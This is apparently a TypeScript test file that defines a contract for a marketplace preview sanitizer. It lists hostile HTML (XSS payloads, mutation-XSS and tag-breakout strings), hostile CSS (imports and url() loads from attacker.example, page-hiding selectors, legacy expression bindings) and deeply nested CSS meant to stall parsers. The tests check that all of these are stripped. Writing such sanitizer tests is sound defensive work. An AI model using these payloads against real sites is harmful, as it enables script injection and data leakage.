import type { PreviewSanitizer } from '@backroom/core/marketplace';
import { expect, it } from 'vitest';
import { contract } from '../contract.ts';

/** HTML of which nothing may run. */
export const hostileHtml: readonly string[] = [
  '<script>attack()</script>',
  '<img src=x onerror=attack()>',
  '<svg onload=attack()><animate onbegin=attack() attributeName=x dur=1s></svg>',
  '<a href="javascript:attack()">a</a>',
  '<a href=" java\nscript:attack()">a</a>',
  '<iframe srcdoc="<script>parent.attack()</script>"></iframe>',
  '<object data="data:text/html,<script>attack()</script>"></object>',
  '<form action="javascript:attack()"><button autofocus onfocus=attack()>b</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attack()&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=attack()>">',
  '<style>@import "http://attacker.example/a.css";</style>',
  '<p style="background:url(javascript:attack())">p</p>',
  '<details open ontoggle=attack()>d</details>',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<base href="http://attacker.example/"><meta http-equiv="refresh" content="0;url=javascript:attack()">',
  '</div></div><script>attack()</script><div>',
];

/** CSS that must not reach beyond a preview. */
export const hostileCss: readonly string[] = [
  '@import "http://attacker.example/a.css";',
  '@import url(data:text/css,body%7Bdisplay:none%7D);',
  'p { background: url(http://attacker.example/a.png) }',
  'p { background: image-set("http://attacker.example/a.png" 1x) }',
  'p { --a: url(http://attacker.example/a.png); background: var(--a) }',
  '@font-face { font-family: a; src: url(http://attacker.example/a.woff) }',
  'body { display: none }',
  ':root, html { display: none }',
  'p { } } body { display: none',
  '& ~ *, & + * { display: none }',
  'body:has(&) { display: none }',
  'p { & ~ *, body & { display: none } }',
  '</style><script>attack()</script>',
  'p::after { content: "</style><script>attack()</script>" }',
  'p { position: fixed; inset: 0 }',
  '@media all { body { display: none } }',
  '@layer a { body { display: none } }',
  '@scope (body) { :scope { display: none } }',
  'a { width: expression(attack()); behavior: url(a.htc); -moz-binding: url(a.xml#b) }',
  '@namespace url(http://attacker.example/); * { display: none }',
];

const DEPTH = 60;
const nested = (opening: string, closing = ')') => `${opening.repeat(DEPTH)}1px${closing.repeat(DEPTH)}`;

/** CSS that costs a parser with alternatives at each level exponential time, as such and behind what hides the brackets. */
export const nestedCss: readonly string[] = [
  `p { font: ${nested('calc(')} }`,
  `p { width: ${nested('calc( ] /* ) */ ")" ')} }`,
  `p { width: ${nested('c\\61 lc(')} }`,
  `p { background: url(") /* ") ; width: ${nested('min(1px, /* ") */ ')} }`,
  `p { font: ${nested('max(calc(', '))')} }`,
  nested('@media all { ', ' }'),
];

/** Promises of every PreviewSanitizer. */
export const previewSanitizerContract = (implementation: string, sanitizer: PreviewSanitizer) =>
  contract(`PreviewSanitizer: ${implementation}`, () => {
    it('keeps text, links, images and styles', () => {
      const { html, css } = sanitizer.sanitize({
        html: '<h2 class="a">Ü &amp; 😀</h2><a href="https://market.example/">a</a><img src="https://market.example/a.png" alt="b">',
        css: '.a, p > b { color: red } @media (min-width: 9px) { .a { margin: 0 } }',
      });
      expect(html).toMatch(/^<div class="([a-z-]+)"><h2 class="a">Ü &amp; 😀<\/h2>/);
      expect(html).toContain('href="https://market.example/"');
      expect(html).toContain('src="https://market.example/a.png"');
      expect(css.replaceAll(/[\s;]/g, '')).toMatch(/color:red/);
      expect(css).toMatch(/@media/);
    });

    it.each(hostileHtml)('removes what runs from %s', (text) => {
      const { html } = sanitizer.sanitize({ html: text, css: '' });
      // Markup in quotes is text.
      const markup = html.replaceAll(/"[^"]*"/g, '""');
      expect(markup).not.toMatch(
        /<(?:script|iframe|object|svg|math|form|style|base|meta|button)|\son[a-z]+=|srcdoc|style=/i,
      );
      expect(html).not.toMatch(/javascript:|data:text/i);
    });

    it.each(hostileCss)('confines %s', (text) => {
      const { css } = sanitizer.sanitize({ html: '', css: text });
      expect(css).not.toMatch(/import|http:|font-face|<|position|behavior|binding|expression|&/i);
      const selectors = css.match(/[^{}]+(?=\{)/g) ?? [];
      for (const selector of selectors.filter((each) => !each.startsWith('@')))
        for (const part of selector.split(',')) expect(part).toMatch(/^\.[a-z-]+ /);
    });

    it.each(nestedCss)('leaves out what is nested too deeply, at once: %#', { timeout: 2_000 }, (css) => {
      expect(sanitizer.sanitize({ html: '', css }).css).toBe('');
    });

    it('returns nothing for nothing', () => {
      expect(sanitizer.sanitize({ html: '', css: '' })).toEqual({ html: '', css: '' });
    });
  });
